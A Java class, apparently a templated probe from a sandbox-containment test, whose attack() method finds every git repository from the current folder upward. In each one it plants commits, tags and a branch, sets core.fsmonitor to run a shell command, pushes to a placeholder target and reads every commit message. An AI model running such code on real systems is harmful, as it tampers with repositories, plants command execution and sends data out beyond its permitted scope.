package till;

import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/** Commits, tags and configures in each repository that a way from the lane leads to. */
final class Repository {
    private static final List<String> OWN = Arrays.asList(
        "git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-c", "safe.directory=*");
    private static final String[][] DEEDS = {
        {"commit", "-q", "--allow-empty", "-a", "-m", "planted"},
        {"tag", "planted"},
        {"update-ref", "refs/heads/planted", "HEAD"},
        {"config", "core.fsmonitor", "touch planted"},
        {"push", "-q", "@target@", "HEAD:refs/heads/planted"},
        {"log", "--all", "--format=%B"},
    };

    /** The folder and all above it, and what is named. */
    private static List<List<String>> ways() {
        List<List<String>> found = new ArrayList<>();
        for (Path place = Paths.get("").toAbsolutePath(); place != null; place = place.getParent()) {
            found.add(Arrays.asList("-C", place.toString()));
        }
        for (String named : "@places@".trim().split(" ")) {
            if (!named.isEmpty()) {
                found.add(Arrays.asList("-C", named));
                found.add(Arrays.asList("--git-dir=" + named + "/.git", "--work-tree=."));
            }
        }
        return found;
    }

    private static String said(List<String> way, String[] deed) throws Exception {
        List<String> words = new ArrayList<>(OWN);
        words.addAll(way);
        words.addAll(Arrays.asList(deed));
        ProcessBuilder builder = new ProcessBuilder(words).redirectError(ProcessBuilder.Redirect.INHERIT);
        builder.environment().keySet().removeIf(name -> name.startsWith("GIT_"));
        Process process = builder.start();
        process.getOutputStream().close();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        InputStream from = process.getInputStream();
        for (int next = from.read(); next >= 0; next = from.read()) {
            bytes.write(next);
        }
        process.waitFor();
        return bytes.toString();
    }

    static void attack() throws Exception {
        StringBuilder all = new StringBuilder();
        for (List<String> way : ways()) {
            for (String[] deed : DEEDS) {
                all.append(said(way, deed));
            }
        }
        throw new AssertionError("@made@" + all);
    }
}
